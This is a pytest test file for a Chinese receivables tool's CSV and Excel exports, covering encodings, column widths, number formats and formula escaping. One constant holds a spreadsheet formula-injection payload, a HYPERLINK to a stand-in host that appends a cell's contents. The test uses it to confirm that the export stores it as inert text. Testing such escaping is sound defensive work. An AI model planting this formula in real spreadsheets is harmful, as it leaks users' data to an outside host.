"""Issue #13, item 5: exports that Excel on Chinese Windows opens right.

CSV files carry a BOM (utf-8-sig) or are GBK (``--encoding gbk``), a text GBK
cannot hold is one error line naming its row and column, and nothing is written;
the terminal keeps plain UTF-8. XLSX columns are as wide as their content (a
Chinese character counts two, capped), the header row is frozen, money is a
number with ``#,##0.00`` holding the ledger's own digits, dates are dates. Formula
escaping stays as it was (``huikuan.documents.escaping``).
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import zipfile

import pytest
from openpyxl import load_workbook
from sqlalchemy import update
from typer.testing import CliRunner

from huikuan.cli import app
from huikuan.ledger.company import EXAMPLE
from huikuan.ledger.db import session_scope
from huikuan.reports.builders import MAX_WIDTH, text_width
from models.ledger import Customer
from tests.ledger_files import write_files

pytestmark = pytest.mark.filterwarnings("ignore::models.calendar.CalendarFallbackWarning")

AS_OF = "2026-11-11"
LONG_NAME = "上海浦东新区张江高科技园区国际贸易与供应链管理股份有限公司第一分公司"  # 34 characters: 68 widths, over the cap
HYPERLINK = '=HYPERLINK("http://x.example/?leak="&A1,"click")'
FILES = {
    "customers": f"customer_id,name,email,phone,contact_name\nA,杭州华信贸易有限公司,a@a.cn,1,王\nB,{LONG_NAME},b@b.cn,2,李\nC,Acme,c@c.cn,3,陈\n",
    "invoices": "invoice_id,customer_id,issued_on,due_on,amount\n"
    "A-1,A,2026-08-10,2026-09-10,986.81\nB-1,B,2026-09-01,2026-10-01,123456789012.34\nC-1,C,2026-10-01,2026-10-31,9.88\n",
}
runner = CliRunner()


@pytest.fixture
def ledger(cli_env):
    (cli_env / "company.yaml").write_text(EXAMPLE, encoding="utf-8")
    assert run("db", "upgrade").exit_code == 0
    args = [item for kind, path in write_files(cli_env, FILES).items() for item in (f"--{kind}", str(path))]
    assert run("import", *args).exit_code == 0
    return cli_env


def run(*args: str):
    return runner.invoke(app, list(args), catch_exceptions=False)


def rename(customer_id: str, name: str) -> None:
    with session_scope() as session:
        session.execute(update(Customer).where(Customer.customer_id == customer_id).values(name=name))


# -- CSV ------------------------------------------------------------------------------------------


def test_a_csv_file_has_the_bom_excel_needs_and_the_terminal_gets_plain_utf8(ledger):
    path = ledger / "aging.csv"
    result = run("report", "aging", "--as-of", AS_OF, "--format", "csv", "--out", str(path))
    assert result.exit_code == 0 and str(path) in result.stdout
    data = path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[0][:3] == ["customer_id", "customer", "not due"]  # the column ids, in any locale
    assert ["A", "杭州华信贸易有限公司", "0.00", "0.00", "0.00", "986.81", "0.00", "0.00", "986.81"] in rows
    shown = run("report", "aging", "--as-of", AS_OF, "--format", "csv")
    assert not shown.stdout_bytes.startswith(b"\xef\xbb\xbf") and shown.stdout.splitlines()[0].startswith("customer_id,customer,")
    plan = ledger / "plan.csv"
    assert run("plan", "--as-of", AS_OF, "--out", str(plan)).exit_code == 0
    assert plan.read_bytes().startswith(b"\xef\xbb\xbfdate,customer_id,action,invoices,channel,role,needs_approval\n")
    assert run("plan", "--as-of", AS_OF).stdout.startswith("date,customer_id,action,")  # the contract's CSV, unchanged


def test_gbk_for_excel_on_chinese_windows(ledger):
    path = ledger / "aging-gbk.csv"
    assert run("report", "aging", "--as-of", AS_OF, "--format", "csv", "--out", str(path), "--encoding", "gbk").exit_code == 0
    data = path.read_bytes()
    assert not data.startswith(b"\xef\xbb\xbf") and "杭州华信贸易有限公司".encode("gbk") in data
    assert list(csv.reader(io.StringIO(data.decode("gbk"))))[0][0] == "customer_id"
    simulated = ledger / "simulate.csv"
    assert run("simulate", "--from", "2026-11-09", "--to", "2026-11-13", "--out", str(simulated), "--encoding", "gbk").exit_code == 0
    assert simulated.read_bytes().decode("gbk").startswith("date,customer_id,action,")
    piped = run("report", "aging", "--as-of", AS_OF, "--format", "csv", "--encoding", "gbk")  # asked for: to stdout too
    assert "杭州华信贸易有限公司".encode("gbk") in piped.stdout_bytes


def test_a_text_gbk_cannot_hold_is_one_error_line_naming_its_row_and_column_and_nothing_is_written(ledger):
    rename("C", "Acme 😀 Trading")
    path = ledger / "aging-gbk.csv"
    result = run("report", "aging", "--as-of", AS_OF, "--format", "csv", "--out", str(path), "--encoding", "gbk")
    assert result.exit_code == 1 and not path.exists()
    lines = result.stderr.strip().splitlines()
    assert lines[-1] == (
        "error: row 4, column customer: '😀' (U+1F600) cannot be written in GBK; write the file with --encoding utf-8-sig"
    )  # C is the 3rd customer: row 4 with the header
    assert run("report", "aging", "--as-of", AS_OF, "--format", "csv", "--out", str(path)).exit_code == 0  # UTF-8 holds it
    assert "Acme 😀 Trading" in path.read_text(encoding="utf-8-sig")


def test_options_that_do_not_go_together_fail_first(ledger):
    assert "--encoding is for CSV" in run("report", "aging", "--format", "xlsx", "--out", str(ledger / "a.xlsx"), "--encoding", "gbk").stderr
    assert "--format xlsx needs --out" in run("plan", "--as-of", AS_OF, "--format", "xlsx").stderr
    assert "--encoding is for CSV" in run("plan", "--as-of", AS_OF, "--format", "json", "--encoding", "gbk").stderr


# -- XLSX -----------------------------------------------------------------------------------------


def _values(path, sheet_xml: str = "xl/worksheets/sheet1.xml") -> dict[str, str]:
    """The cells' values as the file stores them (``<v>`` of each cell reference)."""
    with zipfile.ZipFile(path) as book:
        xml = book.read(sheet_xml).decode("utf-8")
    return dict(re.findall(r'<c r="([A-Z]+\d+)"[^>]*>(?:<f>[^<]*</f>)?<v>([^<]*)</v>', xml))


def test_xlsx_columns_are_sized_the_header_frozen_and_money_exact(ledger):
    rename("C", HYPERLINK)
    path = ledger / "aging.xlsx"
    assert run("report", "aging", "--as-of", AS_OF, "--format", "xlsx", "--out", str(path)).exit_code == 0
    sheet = load_workbook(path).active
    assert sheet.freeze_panes == "A2"
    assert [c.value for c in sheet[1]] == ["客户编号", "客户名称", "未到期", "1-30", "31-60", "61-90", "91-180", "180天以上", "合计"]
    widths = {letter: dim.width for letter, dim in sheet.column_dimensions.items()}
    assert text_width("杭州华信贸易有限公司") == 20 and text_width("Acme") == 4
    assert widths["B"] == MAX_WIDTH == 50  # the long Chinese name: 68 widths, capped
    assert widths["A"] == text_width("客户编号") + 2 == 10  # header wider than the ids
    assert widths["I"] == len("123,456,790,009.03") + 2  # the widest total as shown, with separators
    assert widths["C"] == 8  # "未到期" (6) and 0.00: Excel's default width at least
    a, b, total = sheet[2], sheet[3], sheet[5]
    assert a[1].value == "杭州华信贸易有限公司" and a[5].value == pytest.approx(986.81)
    assert all(cell.number_format == "#,##0.00" for cell in a[2:] + b[2:] + total[2:])
    assert total[0].value == "合计" and total[8].value == pytest.approx(123456790009.03)
    stored = _values(path)
    assert stored["F2"] == "986.81" and stored["E3"] == "123456789012.34" and stored["I5"] == "123456790009.03"  # the ledger's digits, not a float's
    assert sheet["B4"].data_type == "s" and sheet["B4"].value == HYPERLINK and sheet["B4"].quotePrefix  # still never a formula
    notes = [row[0] for row in sheet.iter_rows(min_row=7, values_only=True) if row[0]]
    assert notes[0] == "账龄分析（按客户），截至2026年11月11日"


def test_xlsx_ratios_dates_and_the_plan(ledger):
    kpis = ledger / "kpis.xlsx"
    assert run("report", "kpis", "--as-of", AS_OF, "--format", "xlsx", "--out", str(kpis)).exit_code == 0
    sheet = load_workbook(kpis).active
    by_measure = {row[0].value: row[1] for row in sheet.iter_rows(min_row=2, max_row=12)}
    assert by_measure["逾期率"].number_format == "0.00%" and by_measure["未收合计"].number_format == "#,##0.00"
    plan = ledger / "plan.xlsx"
    assert run("plan", "--as-of", AS_OF, "--format", "xlsx", "--out", str(plan)).exit_code == 0
    sheet = load_workbook(plan).active
    assert sheet.freeze_panes == "A2" and sheet["A1"].value == "日期" and sheet["H1"].value == "原因"
    assert sheet["A2"].value == dt.datetime(2026, 11, 11) and sheet["A2"].number_format == "yyyy-mm-dd" and sheet["A2"].is_date
    actions = {row[2] for row in sheet.iter_rows(min_row=2, values_only=True) if row[0]}
    assert "通知总经理" in actions  # A-1 is 62 days overdue
    reason = next(row[7] for row in sheet.iter_rows(min_row=2, values_only=True) if row[2] == "通知总经理")
    assert reason == "发票 A-1 逾期 62 天；超过2个月未付；通知总经理"
    reasons = [row[7] for row in sheet.iter_rows(min_row=2, values_only=True) if row[7]]
    assert sheet.column_dimensions["H"].width == min(MAX_WIDTH, max(map(text_width, reasons)) + 2)
